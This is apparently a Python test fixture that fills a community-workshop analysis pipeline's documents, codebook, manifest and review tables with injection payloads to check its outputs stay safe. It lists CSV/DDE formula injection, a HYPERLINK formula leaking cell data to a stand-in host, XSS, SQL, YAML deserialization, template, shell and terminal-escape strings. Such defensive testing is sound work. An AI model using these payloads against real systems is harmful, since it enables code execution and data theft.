"""A corpus whose every free word attacks the file that it ends up in: papers, names, manifest, codebook, decisions."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import docx
from conftest import Project

from pipeline.shared import tables

KINDS = {
    "formula": "=cmd|' /C calc'!A0",
    "plus": "+1+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "link formula": '=HYPERLINK("http://injiziert.example/?q="&A1;"hier")',
    "wide formula": "\uff1d1\uff0b1",  # full-width signs, which some spreadsheets read as = and +
    "script": "<script>window.pwned=1;alert('da')</script>",
    "image": "<img src=x onerror=window.pwned=1>",
    "attribute": '"\' onmouseover=window.pwned=1 autofocus onfocus=window.pwned=1 x="',
    "way out": "]]></style></script></textarea></title>--><svg onload=window.pwned=1>",
    "address": "[klick](javascript:window.pwned=1) http://injiziert.example/x",
    "entity": "&lt;script&gt;&amp;&#60;b&#62; &nbsp;",
    "sql": "'; DROP TABLE statements; --",
    "typst": '#read("params.yaml") $x^2$ *fett* _kursiv_ @ref [ ] `roh` <label> #sys.version',
    "typst comment": "// weg /* weg #{ 1 + 1 } \\u{41} ~",
    "yaml": "!!python/object/apply:os.system ['id'] &a *a {x: 1} %TAG ? |",
    "markdown": "**fett** ![x](http://injiziert.example/y.png) <!-- weg --> ``` $$x$$ | a |",
    "template": "{{ 7*7 }} {% include 'x' %} ${7*7} {0.__class__} %s %(x)s",
    "shell": "$(touch pwned) `touch pwned` ; touch pwned &",
    "terminal": "\x1b[31mrot\x1b]0;Titel\x07\x1b[2J",
    "reversed": "\u202eumgekehrt\u202c \u2066innen\u2069 \u061c\u200f",
    "invisible": "un\u200bsicht\u200dbar\u2060\ufeff\u00ad",
    "control": "Null\x00 Glocke\x08\x7f\x9b \x85",
    "no XML": "\ufffe\uffff\x0b\x0c\x1f",
    "combining": "Z" + "\u0301\u0316" * 60,
    "long word": "Wort" * 500,
}
MARKS = {kind: f"Zk{number:02d}q" for number, kind in enumerate(KINDS)}
TOPICS = (
    "Es fehlen Sprachkurse am Abend", "Es gibt zu wenig Plätze in der Kita", "Der Bus fährt abends nicht mehr",
    "Anerkennung von Abschlüssen dauert zu lange", "Dolmetscher beim Arzt fehlen", "Wohnungen sind zu teuer",
    "Ehrenamtliche bekommen keine Fortbildung", "Sportvereine sind schlecht zu finden",
    "Betriebe stellen keine Geflüchteten ein", "Eltern verstehen das Schulsystem nicht",
    "Beratung für Frauen fehlt im Ort", "Das Amt antwortet nur auf Deutsch", "Jugendliche haben keinen Treffpunkt",
    "Pflegekräfte finden keinen Deutschkurs",
)  # fmt: skip
GOALS = (
    "Alle Neuzugewanderten finden innerhalb von drei Monaten einen Sprachkurs.",
    "Jedes Kind hat einen Platz in der Kita.", "Alle kommen auch abends mit dem Bus nach Hause.",
    "Beim Arzt versteht man sich.", "Familien finden eine bezahlbare Wohnung.",
)  # fmt: skip
PAPERS = ("werkstatt.docx", "forum.txt", "runde.txt")
NAMES = ("formula", "plus", "minus", "at", "image", "attribute", "typst", "yaml", "shell", "terminal", "reversed",
         "invisible", "template")  # fmt: skip
MEGABYTE = "Riesenwort" * 100_000


def said(kind: str, place: str) -> str:
    """Return a statement that begins with the attack and ends with what it is found by."""
    topic = TOPICS[list(KINDS).index(kind) % len(TOPICS)]
    return f"{KINDS[kind]} {topic}, auch {place}, {MARKS[kind]}."


def seen(text: str) -> str:
    """Return what a reader sees of a text: no controls, nothing invisible, single spaces."""
    return " ".join("".join(sign if sign.isprintable() else " " for sign in text).split())


def word_file(lines: list[str]) -> bytes:
    """Return a DOCX with a heading and one bullet per line; what XML cannot hold is left out."""
    paper = docx.Document()
    paper.add_heading("Workshop", 1)
    paper.add_heading("Probleme", 2)
    for line in lines:
        paper.add_paragraph("".join(sign for sign in line if sign == "\t" or sign.isprintable()), style="List Bullet")
    made = io.BytesIO()
    paper.save(made)
    return made.getvalue()


def codebook(book: dict[str, Any]) -> dict[str, Any]:
    """Return the codebook with attacks in its free words."""
    one, two, three = "formula", "script", "typst"
    book["title"] = f"{KINDS['image']} Konzept"
    for entry, kind in zip(book["fields"], (one, two, three, "yaml", "attribute", "template"), strict=False):
        entry["name"] = f"{KINDS[kind]} {entry['name']}"
        entry["short"] = f"{KINDS[kind]} {entry.get('short') or entry['name']}"
        entry["definition"] = f"{KINDS['way out']} {entry['definition']}"
    for entry, kind in zip(book["types"], ("at", "image"), strict=False):
        entry["name"] = f"{KINDS[kind]} {entry['name']}"
    for entry, kind in zip(book["groups"], ("minus", "script", "typst"), strict=False):
        entry["name"] = f"{KINDS[kind]} {entry['name']}"
    for entry, kind in zip(book["target_groups"], ("terminal", "reversed", "image", "long word"), strict=False):
        entry["name"] = f"{KINDS[kind]} {entry['name']}"
    return book


def write(project: Project, book: dict[str, Any]) -> None:
    """Write papers, manifest and codebook."""
    project.codebook(codebook(book))
    groups = [entry["name"] for entry in book["groups"][:3]]
    places = ("im Rathaus", "am Bahnhof", "in Kirchdorf")
    for name, place in zip(PAPERS, places, strict=True):
        lines = [said(kind, place) for kind in KINDS]
        if name.endswith(".docx"):
            project.document(name, word_file(lines))
        else:
            listed = "".join(f"- {line}\n" for line in lines)
            wished = "".join(f"- {line}\n" for line in GOALS)
            project.document(name, f"{KINDS['script']} Protokoll\n\nProbleme\n\n{listed}\n\nZiele\n\n{wished}\n")
    talk = ["WEBVTT", ""]
    for number, kind in enumerate(NAMES):
        start, end = f"00:{number:02d}:01.000", f"00:{number:02d}:09.000"
        speaker = seen(KINDS[kind]).replace(">", "›").replace("<", "‹").replace(":", ".")
        talk += [f"{start} --> {end}", f"<v {speaker}>Mir fehlen Sprachkurse am Abend ({MARKS[kind]}).", ""]
    project.document("gespräch.vtt", "\n".join(talk))
    for kind in NAMES:
        name = KINDS[kind].replace("/", "_").replace("\x00", "")
        text = (
            f"# Werkstatt {KINDS[kind]}\n\n## Probleme {KINDS[kind]}\n\n- Es fehlen Wohnungen im Ort, {MARKS[kind]}.\n"
        )
        project.document(f"{name}.md", text)
    project.document("lang.txt", f"Probleme\n\n- {MEGABYTE}\n- Der Bus {MEGABYTE[:5000]} fährt nicht.\n")
    head = ["file", "event", "date", "fields", "stakeholder_group", "kind"]
    rows = [[name, KINDS["script"], f"2023-10-0{day}", "", group, "protokoll"]
            for day, (name, group) in enumerate(zip(PAPERS, groups, strict=True), start=1)]  # fmt: skip
    table(project.corpus.manifest, head, rows)


def table(path: Path, head: list[str], rows: list[list[str]]) -> None:
    """Write a CSV as people hand it back."""
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream, delimiter=";").writerows([head, *rows])


def decide(project: Project, book: dict[str, Any]) -> None:
    """Hand back decisions whose free words attack: names of themes, texts of guidelines, who and why."""
    review, kinds = project.corpus.review, list(KINDS)
    themes = tables.THEMES.read(project.corpus)["theme_id"].tolist()
    table(review / "themes.csv", ["theme_id", "action", "value", "reviewer", "date", "why"],
         [[theme, "umbenennen", f"{KINDS[kind]} {MARKS[kind]}", KINDS["formula"], "2024-02-01", KINDS[kind]]
          for theme, kind in zip(themes, kinds, strict=False)])  # fmt: skip
    drafts = tables.GUIDELINES.read(project.corpus)["guideline_id"].tolist()
    table(review / "guidelines.csv", ["guideline_id", "text", "status", "responsible", "reviewer", "date", "why"],
         [[draft, f"{KINDS[kind]} Wir sorgen für {MARKS[kind]}.", "angenommen", KINDS[kind], KINDS["script"],
           "2024-02-01", KINDS[kind]] for draft, kind in zip(drafts, kinds * 3, strict=False)])  # fmt: skip
    found = tables.STATEMENTS.read(project.corpus)["statement_id"].tolist()
    types = [entry["key"] for entry in book["types"]]
    table(review / "types.csv", ["statement_id", "type", "reviewer", "date", "why"],
         [[one, types[0], KINDS[kind], "2024-02-01", KINDS[kind]]
          for one, kind in zip(found, kinds, strict=False)])  # fmt: skip
